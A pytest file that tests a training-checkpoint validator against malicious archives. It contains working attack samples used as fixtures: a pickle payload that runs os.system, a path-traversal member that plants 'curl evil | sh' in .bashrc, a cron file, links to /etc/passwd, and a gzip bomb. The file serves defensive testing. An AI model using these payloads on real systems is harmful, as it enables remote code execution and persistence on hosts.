"""The checkpoint checks every reader runs (shared/checkpoint.py): a well-formed checkpoint of the job passes;
each way a stranger could smuggle code, links, foreign paths, impossible steps or junk into one is refused
with a reason, and unpacking writes regular files into `resume/` only."""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import struct
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.checkpoint import CheckpointRejected, CheckpointRules, check_archive, check_folder
from shared.catalog import get_base_model
from tests.fakes import lora_shapes, checkpoint_archive, checkpoint_members, checkpoint_state, safetensors_of, tar_gz

RULES = CheckpointRules(base_model="tunegrid/tiny-llama", r=16, target_modules="all-linear", learning_rate=2e-4,
                        seed=0, max_step=100, max_tokens_per_step=4096)


class _Payload:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, ("touch /tmp/tunegrid-pwned",))


def check(archive: bytes, *, step: int | None = 1, rules: CheckpointRules = RULES, **kwargs):  # type: ignore[no-untyped-def]
    return check_archive(io.BytesIO(archive), rules, step=step, **kwargs)


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def test_a_well_formed_checkpoint_passes() -> None:
    facts = check(checkpoint_archive(step=3), step=3)
    assert facts.step == 3 and facts.state.data_order.seed == 0 and facts.bytes > 0


def _members(**replace: bytes) -> list[tuple[str, bytes]]:
    return [(f"resume/{n}", b) for n, b in {**checkpoint_members(), **replace}.items()]


STATE = checkpoint_state(1)
TINY_SHAPES = lora_shapes(get_base_model("tunegrid/tiny-llama"), 16)
ATTACKS = {
    "a pickle where state.json goes": (
        checkpoint_archive(replace={"state.json": pickle.dumps(_Payload())}), "state.json"),
    "a pickle beside the checkpoint (state.pt)": (
        checkpoint_archive(extra=[("resume/state.pt", pickle.dumps(_Payload()))]), "unexpected entry"),
    "a symbolic link to a host file": (
        tar_gz([*_members(), _link("resume/notes.txt", "/etc/passwd")]), "unexpected entry"),
    "a member that is a link": (
        tar_gz([_link("resume/state.json", "/etc/passwd"), *_members()[:3]]), "not a regular file"),
    "a hard link": (tar_gz([*_members()[:3], _link("resume/state.json", "resume/rng.safetensors", tarfile.LNKTYPE)]),
                    "not a regular file"),
    "a device": (tar_gz([*_members()[:3], _link("resume/state.json", "", tarfile.CHRTYPE)]), "not a regular file"),
    "a parent path": (tar_gz([*_members(), ("resume/../../.bashrc", b"curl evil | sh")]), "unsafe path"),
    "an absolute path": (tar_gz([("/etc/cron.d/evil", b"* * * * * root sh"), *_members()]), "unsafe path"),
    "a member twice": (tar_gz([*_members(), ("resume/state.json", json.dumps(STATE).encode())]), "twice"),
    "a missing member": (tar_gz(_members()[:3]), "lacks"),
    "random bytes": (os.urandom(4096), "not a readable"),
    "a plain tar, not gzip": (b"\0" * 1024, "not a readable"),
    "a step of 10^9": (checkpoint_archive(replace={"state.json": json.dumps(checkpoint_state(10**9)).encode()}),
                       "upload says"),
    "extra keys in state.json": (checkpoint_archive(replace={"state.json": json.dumps({**STATE, "x": 1}).encode()}),
                                 "Extra inputs"),
    "NaN in state.json": (checkpoint_archive(replace={"state.json": json.dumps(
        {**STATE, "optimizer": {"lr": float("nan"), "initial_lr": 2e-4}}).encode()}), "state.json"),
    "a string for a number": (checkpoint_archive(replace={"state.json": json.dumps({**STATE, "step": "1"}).encode()}),
                              "state.json"),
    "another learning rate": (checkpoint_archive(replace={"state.json": json.dumps(checkpoint_state(1, lr=1.0)).encode()}),
                              "learning rate"),
    "another seed": (checkpoint_archive(replace={"state.json": json.dumps(checkpoint_state(1, seed=9)).encode()}),
                     "seed"),
    "more tokens than a step holds": (checkpoint_archive(replace={"state.json": json.dumps(
        checkpoint_state(1, tokens=10**12)).encode()}), "tokens"),
    "an adapter of another rank": (checkpoint_archive(replace={
        "adapter_model.safetensors": checkpoint_members(r=8)["adapter_model.safetensors"]}), "the job needs"),
    "an adapter with a foreign tensor": (checkpoint_archive(replace={"adapter_model.safetensors": safetensors_of(
        {"lm_head.weight": ("F32", [640, 128])})}), "adapter_model.safetensors"),
    "optimizer moments of another dtype": (checkpoint_archive(replace={"optimizer.safetensors": safetensors_of({
        **{f"{m}/{n}": ("BF16", s) for n, s in TINY_SHAPES.items() for m in ("exp_avg", "exp_avg_sq")},
        **{f"step/{n}": ("F32", []) for n in TINY_SHAPES}})}), "is BF16"),
    "a header that lies about its size": (checkpoint_archive(replace={"rng.safetensors": (
        (10**12).to_bytes(8, "little") + b"{}")}), "header length"),
    "tensors that do not tile the data": (checkpoint_archive(replace={"rng.safetensors": (
        safetensors_of({"torch": ("U8", [5056])}) + b"extra")}), "holds"),
    "a GPU state on a CPU job": (checkpoint_archive(replace={"rng.safetensors": safetensors_of(
        {"torch": ("U8", [5056]), "cuda": ("U8", [16])})}), "unexpected tensor"),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_is_refused_with_its_reason(name: str) -> None:
    archive, reason = ATTACKS[name]
    rules = RULES if name != "a GPU state on a CPU job" else replace(RULES, gpu=False)
    with pytest.raises(CheckpointRejected, match=reason):
        check(archive, rules=rules)
    assert not Path("/tmp/tunegrid-pwned").exists()


def test_a_step_past_what_the_lease_reported_is_refused() -> None:
    archive = checkpoint_archive(step=50)
    assert check(archive, step=50).step == 50
    with pytest.raises(CheckpointRejected, match="past the 49 steps"):
        check(archive, step=50, rules=replace(RULES, max_step=49))


def test_a_gzip_bomb_is_refused_before_it_is_held_in_memory() -> None:
    header = tarfile.TarInfo("resume")  # an extended header tarfile would read whole into memory
    header.type, header.pax_headers = tarfile.DIRTYPE, {"comment": "x" * (RULES.inflate_limit() + 10**6)}
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        tar.addfile(header)
    bomb = gzip.compress(raw.getvalue(), compresslevel=9)
    assert len(bomb) < RULES.inflate_limit() // 100
    with pytest.raises(CheckpointRejected, match="extended header of"):  # refused before tarfile reads it
        check(bomb)
    huge_member = tar_gz([("resume/state.json", b" " * (65 * 1024))])
    with pytest.raises(CheckpointRejected, match="at most"):
        check(huge_member)


def test_unpacking_writes_regular_files_into_resume_only(tmp_path: Path) -> None:
    target = tmp_path / "job" / "resume"
    target.parent.mkdir()
    check(checkpoint_archive(step=2), step=2, extract_to=target)
    assert sorted(os.listdir(target)) == sorted(checkpoint_members())
    assert all(p.is_file() and not p.is_symlink() for p in target.iterdir())
    assert check_folder(target, RULES).step == 2


def test_a_refused_archive_leaves_nothing_behind_and_a_planted_link_is_never_followed(tmp_path: Path) -> None:
    target = tmp_path / "resume"
    with pytest.raises(CheckpointRejected):
        check(ATTACKS["a parent path"][0], extract_to=target)
    assert not target.exists() and not (tmp_path.parent / ".bashrc").exists()
    outside = tmp_path / "outside"
    outside.mkdir()
    target.symlink_to(outside)  # something planted a link where resume/ goes
    with pytest.raises(FileExistsError):
        check(checkpoint_archive(), extract_to=target)
    assert list(outside.iterdir()) == []


def test_an_unpacked_folder_with_a_link_or_an_extra_file_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "resume"
    check(checkpoint_archive(), extract_to=target)
    (target / "state.json").unlink()
    (target / "state.json").symlink_to("/etc/hostname")
    with pytest.raises(CheckpointRejected, match="link"):
        check_folder(target, RULES)
    (target / "state.json").unlink()
    (target / "state.json").write_bytes(json.dumps(STATE).encode())
    (target / "state.pt").write_bytes(pickle.dumps(_Payload()))
    with pytest.raises(CheckpointRejected, match="exactly"):
        check_folder(target, RULES)


def _adapter_header(raw_header: bytes) -> bytes:
    raw_header += b" " * (-len(raw_header) % 8)
    return len(raw_header).to_bytes(8, "little") + raw_header


@pytest.mark.parametrize("name,header", [
    ("a UTF-16 header (json.loads would take it; safetensors would not)",
     json.dumps({"torch": {"dtype": "U8", "shape": [5056], "data_offsets": [0, 5056]}}).encode("utf-16")),
    ("deep nesting", b"[" * 3000 + b"]" * 3000),
    ("an integer of 5000 digits", b'{"torch": {"dtype": "U8", "shape": [' + b"9" * 5000 + b'], "data_offsets": [0, 1]}}'),
])
def test_a_header_that_breaks_a_parser_is_refused_not_an_error(name: str, header: bytes) -> None:
    with pytest.raises(CheckpointRejected, match="unreadable header"):
        check(checkpoint_archive(replace={"adapter_model.safetensors": _adapter_header(header)}))


def test_a_sparse_member_is_refused() -> None:
    """A GNU sparse 1.0 member keeps the regular-file type: the pax keys give it away."""
    data = checkpoint_members()["state.json"]
    sparse_map = f"1\n0\n{len(data)}\n".encode().ljust(512, b"\0")
    info = tarfile.TarInfo("resume/state.json")
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "resume/state.json",
                        "GNU.sparse.realsize": str(len(data))}
    info.size = len(sparse_map + data)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        tar.addfile(info, io.BytesIO(sparse_map + data))
    with pytest.raises(CheckpointRejected, match="not a regular file|extended header"):
        check(raw.getvalue())


@given(st.lists(st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1, max_size=64),
       st.integers(min_value=0), st.sampled_from([float("nan"), float("inf"), float("-inf")]))
def test_the_finite_check_finds_every_nan_and_infinity(values: list[float], where: int, bad: float) -> None:
    from shared.checkpoint import finite  # noqa: PLC0415

    f32 = struct.pack(f"<{len(values)}f", *values)
    bf16 = b"".join(f32[i + 2:i + 4] for i in range(0, len(f32), 4))  # bfloat16: a float32's top half
    halves = [v for v in values if abs(v) < 65504]
    f16 = struct.pack(f"<{len(halves)}e", *halves)
    assert finite(f32, "F32") and finite(bf16, "BF16") and finite(f16, "F16")
    poisoned = list(values)
    poisoned[where % len(values)] = bad
    f32 = struct.pack(f"<{len(poisoned)}f", *poisoned)
    assert not finite(f32, "F32")
    assert not finite(b"".join(f32[i + 2:i + 4] for i in range(0, len(f32), 4)), "BF16")
    assert not finite(struct.pack(f"<{len(halves) + 1}e", *halves, bad), "F16")
